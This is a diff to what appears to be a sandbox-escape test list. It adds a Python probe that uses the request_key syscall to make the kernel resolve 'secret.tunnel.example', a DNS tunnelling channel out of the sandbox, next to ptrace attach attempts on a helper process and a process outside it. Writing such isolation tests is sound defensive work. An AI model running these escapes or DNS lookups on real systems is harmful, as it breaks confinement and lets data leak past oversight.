@@ -160,6 +160,10 @@ export const WAYS: readonly Way[] = [
   ),
   python('ptrace of the helper', 'must(libc.ptrace(16, int(HELPER), 0, 0))'),
   python('ptrace of the process outside', 'must(libc.ptrace(16, int(OUTSIDE), 0, 0))'),
+  python(
+    'a key for which the kernel looks a name up',
+    'must(libc.syscall(249 if os.uname().machine == "x86_64" else 218, b"dns_resolver", b"a:secret.tunnel.example", b"", 0))',
+  ),
   {
     name: 'a debugger in the helper and in the process outside',
     tools: ['curl'],
